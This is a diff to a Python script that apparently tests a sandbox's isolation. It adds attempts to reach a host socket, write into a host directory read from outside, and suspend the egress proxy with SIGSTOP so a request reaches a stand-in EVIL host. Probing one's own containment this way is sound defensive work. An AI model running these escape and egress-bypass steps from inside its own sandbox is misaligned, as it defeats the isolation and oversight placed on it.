@@ -8,6 +8,7 @@ import ctypes
 import glob
 import json
 import os
+import signal
 import socket
 import struct
 import sys
@@ -21,6 +22,14 @@ libc = ctypes.CDLL(None, use_errno=True)
 def attempt(function):
     TABLE.append((function.__name__, function))
     return function
+
+
+def bare(needs):
+    """Marks an attempt that gets through without jc-rootfs, and what it needs there."""
+    def mark(function):
+        function.bare = needs
+        return function
+    return mark
 
 
 def variants(name, *values):
@@ -423,6 +432,20 @@ def file_socket(path):
 
 
 @attempt
+@bare("a socket of the host's by path")
+def file_socket_of_a_service():
+    return file_socket("/run/service/socket")
+
+
+@attempt
+@bare("a directory of the host")
+def file_that_a_process_outside_reads():
+    with open("/srv/drop/request", "w") as file:
+        file.write("attempt")
+    return "written"
+
+
+@attempt
 def uncovered_socket():
     libc.umount2(b"/run/nscd/socket", 2)
     libc.umount2(b"/run", 2)
@@ -581,6 +604,26 @@ def memory_of_others():
             pass
 
 
+@attempt
+def stopped_proxy():
+    """While the proxy is stopped, no packet passes."""
+    proxy = os.getppid()
+    with open(f"/proc/{proxy or 1}/comm") as file:
+        is_proxy = file.read() == "jc-egress\n"
+    if is_proxy:
+        os.kill(proxy, signal.SIGSTOP)
+        try:
+            with socket.create_connection((EVIL, 80), 2) as s:
+                s.settimeout(0.3)
+                s.sendall(GET)
+                return s.recv(100).decode()
+        except TimeoutError:
+            pass
+        finally:
+            os.kill(proxy, signal.SIGCONT)
+    return ask(EVIL, 80, GET)
+
+
 def listening():
     for path, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
         with open(path) as file:
@@ -691,6 +734,7 @@ def main():
             if name in FLOODS:
                 time.sleep(1.1)
             line = {"attempt": name, "got": got, "error": error, "seconds": round(time.monotonic() - start, 2)}
+            line["bare"] = getattr(function, "bare", None)
             print(json.dumps(line), flush=True)
 
 
